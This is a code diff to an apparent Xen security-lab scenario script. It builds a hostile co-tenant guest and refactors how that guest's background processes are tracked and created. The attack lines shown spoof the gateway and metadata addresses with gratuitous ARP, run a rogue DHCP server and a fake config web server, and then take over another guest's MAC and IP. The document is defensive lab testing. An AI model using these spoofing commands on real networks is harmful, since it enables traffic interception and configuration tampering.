@@ -22,7 +22,18 @@ import contextlib
 import time
 from typing import Any
 
-from lab.scenarios.common import GATEWAY, METADATA, Checks, Dom0, Guest, admin, run, step, wait_for
+from lab.scenarios.common import (
+    GATEWAY,
+    METADATA,
+    Checks,
+    Dom0,
+    Guest,
+    admin,
+    create_one,
+    run,
+    step,
+    wait_for,
+)
 
 PROBE = "data/lab-probe"
 EVIL = ("lab-evil", "00:16:3e:1a:b0:66", "198.18.0.66")
@@ -46,19 +57,20 @@ def attack_lines(evil: Guest, ghost: Guest) -> list[str]:
         f"ip addr add {evil.address}/24 dev eth0",
         f"ip addr add {GATEWAY}/32 dev eth0; ip addr add {METADATA}/32 dev eth0",
         f"mkdir -p /tmp/www/v1 && printf '{FAKE_CONFIG}' > /tmp/www/v1/config.txt",
-        "busybox httpd -p 80 -h /tmp/www </dev/null",
+        "busybox httpd -f -p 80 -h /tmp/www </dev/null & echo $! >> /tmp/attack.pids",
         f"printf 'interface eth0\\nstart 198.18.0.200\\nend 198.18.0.210\\n"
         f"lease_file /tmp/leases\\nopt router {GATEWAY}\\nopt subnet 255.255.255.0\\n'"
-        " > /tmp/udhcpd.conf; touch /tmp/leases; busybox udhcpd /tmp/udhcpd.conf </dev/null",
+        " > /tmp/udhcpd.conf; touch /tmp/leases;"
+        " busybox udhcpd -f /tmp/udhcpd.conf </dev/null & echo $! >> /tmp/attack.pids",
         # one arping per address, one claim a second each: no process per claim (under
         # TCG a fork in a PV guest costs a good part of a second of its vCPU)
         f"for a in {GATEWAY} {METADATA}; do busybox arping -U -c 100000 -I eth0 -s $a $a"
-        " </dev/null >/dev/null 2>&1 & echo $! >> /tmp/arp.pids; done",
+        " </dev/null >/dev/null 2>&1 & echo $! >> /tmp/attack.pids; done",
         f"xenstore-write {nodes}/ready yes",
         # phase two: the ghost's MAC and address, once dom0 says so
         # the first event fires when the watch is set, the second when dom0 writes the key
         f"xenstore-watch -n 2 {nodes}/go-ghost >/dev/null",
-        "kill $(cat /tmp/arp.pids); busybox killall udhcpd httpd",
+        "kill $(cat /tmp/attack.pids)",
         f"ip link set eth0 down; ip addr flush dev eth0; ip link set eth0 address {ghost.mac}",
         f"ip link set eth0 up; ip addr add {ghost.address}/24 dev eth0",
         f"ip route add {METADATA}/32 dev eth0",
@@ -76,10 +88,7 @@ def start_attacker(dom0: Dom0) -> tuple[Guest, Guest, int]:
         guest.register()
     evil.make_disk()
     step("creating the hostile co-tenant")
-    proc = evil.create(paused=True)
-    output, _ = proc.communicate(timeout=300)
-    if proc.returncode != 0:
-        raise RuntimeError(f"xl create {evil.name} failed: {output.strip()[-800:]}")
+    create_one(evil, paused=True)
     domid = evil.domid()
     if domid is None:
         raise RuntimeError(f"{evil.name} has no domain")
